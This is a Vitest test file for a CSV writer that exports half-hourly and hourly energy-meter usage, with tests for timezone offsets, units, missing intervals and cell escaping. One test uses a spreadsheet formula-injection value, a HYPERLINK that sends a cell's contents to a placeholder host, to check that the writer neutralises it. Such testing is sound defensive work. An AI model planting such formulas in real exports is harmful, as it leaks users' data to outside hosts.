import { describe, expect, it } from 'vitest'
import { csvCell } from './csv-cell'
import { EVER } from './interval-file'
import { intervalsIn, type MeterDay } from '@/lib/domain/metering/meter-day'
import { wh } from '@/lib/domain/units/units'
import { writeUsageCsv, type UsageCsv } from './usage-csv-writer'
import { readUsage } from './usage-file'

function meterDay(day: string, minutes: number, timeZone: string): MeterDay {
  const count = intervalsIn(day, minutes, timeZone)
  const energies = (first: number) => Array.from({ length: count }, (_, index) => wh(BigInt(first + index * 37)))
  return { day, minutes, importWh: energies(1), exportWh: energies(999), qualities: energies(0).map(() => 'Measured') }
}

async function* pieces(days: readonly MeterDay[], changes: Partial<UsageCsv> = {}) {
  yield* writeUsageCsv({ days, timeZone: 'Europe/London', unit: 'kwh', meter: 'M-1', ...changes })
}
async function text(...given: Parameters<typeof pieces>): Promise<string> {
  let written = ''
  for await (const piece of pieces(...given)) written += piece
  return written
}
const format = {
  file: 'usage.csv',
  dateOrder: 'ymd',
  decimalComma: false,
  interval: null,
  columns: {},
  within: EVER,
} as const

describe('writeUsageCsv', () => {
  it('writes the wall clock with its offset, over a change of the clocks', async () => {
    const lines = (await text([meterDay('2026-10-25', 60, 'Europe/London')])).split('\r\n')
    expect(lines.slice(0, 4)).toEqual([
      'start,import_kwh,export_kwh,quality,meter',
      '2026-10-25T00:00+01:00,0.001,0.999,Measured,M-1',
      '2026-10-25T01:00+01:00,0.038,1.036,Measured,M-1',
      '2026-10-25T01:00+00:00,0.075,1.073,Measured,M-1',
    ])
    expect(lines).toHaveLength(27)
  })

  it.each([
    ['Asia/Shanghai', '2026-01-01', '2026-01-01T00:00+08:00', '2025-12-31T16:00Z'],
    ['America/New_York', '2026-01-01', '2026-01-01T00:00-05:00', '2026-01-01T05:00Z'],
    ['Australia/Adelaide', '2026-01-01', '2026-01-01T00:00+10:30', '2025-12-31T13:30Z'],
  ])('starts a day in %s at %s %s', async (timeZone, day, first, instant) => {
    const days = [meterDay(day, 30, timeZone)]
    expect((await text(days, { timeZone })).split('\r\n')[1]?.split(',')[0]).toBe(first)
    const { run } = await readUsage(pieces(days, { timeZone }), { ...format, timeZone: 'UTC' })
    expect(run.start).toBe(Date.parse(instant) / 1_000)
  })

  it.each(['wh', 'kwh'] as const)('writes in %s what this project reads again, to the Wh', async (unit) => {
    const dates = ['2026-03-28', '2026-03-29', '2026-03-30']
    const days = dates.map((day) => meterDay(day, 15, 'Europe/London'))
    const { run, carried } = await readUsage(pieces(days, { unit }), { ...format, timeZone: 'Asia/Shanghai' })
    expect([...run.importWh]).toEqual(days.flatMap(({ importWh }) => importWh))
    expect([...run.exportWh]).toEqual(days.flatMap(({ exportWh }) => exportWh))
    expect([run.start, run.seconds, carried]).toEqual([Date.parse('2026-03-28T00:00Z') / 1_000, 900, 0])
  })

  it('writes no number where an interval is missing, which no reader takes for zero', async () => {
    const day = meterDay('2026-01-01', 60, 'Europe/London')
    const qualities = day.qualities.map((_, index) => (index === 2 ? ('Missing' as const) : ('Estimated' as const)))
    const days = [{ ...day, qualities }]
    const lines = (await text(days)).split('\r\n')
    expect(lines.slice(2, 4)).toEqual([
      '2026-01-01T01:00+00:00,0.038,1.036,Estimated,M-1',
      '2026-01-01T02:00+00:00,,,Missing,M-1',
    ])
    await expect(readUsage(pieces(days), { ...format, timeZone: 'UTC' })).rejects.toThrow(
      /^NumberMalformed: usage\.csv, line 4:/,
    )
  })

  it('neutralises CSV formulas in the name of the meter', async () => {
    const [day] = [meterDay('2026-01-01', 60, 'Europe/London')]
    const written = await text([day], { meter: '=HYPERLINK("http://x/?"&A1,"M-1")' })
    expect(written.split('\r\n')[1]).toBe(
      `2026-01-01T00:00+00:00,0.001,0.999,Measured,"'=HYPERLINK(""http://x/?""&A1,""M-1"")"`,
    )
  })
})

describe('csvCell', () => {
  it.each([
    ['=1+1', "'=1+1"],
    ['+1', "'+1"],
    ['-1', "'-1"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\tx', `"'\tx"`],
    ['\rx', `"'\rx"`],
    ['\nx', `"'\nx"`],
    ['＝1', "'＝1"],
    ['=1,"2"', `"'=1,""2"""`],
  ])('neutralises the CSV formula %j', (cell, expected) => expect(csvCell(cell)).toBe(expected))

  it.each([
    ['', ''],
    ['M-1', 'M-1'],
    ['a=b', 'a=b'],
    ['a,b', '"a,b"'],
    ['a;b', '"a;b"'],
    ['6" nails', '"6"" nails"'],
    ['零售用户', '零售用户'],
  ])('leaves %j as it is', (cell, expected) => expect(csvCell(cell)).toBe(expected))
})
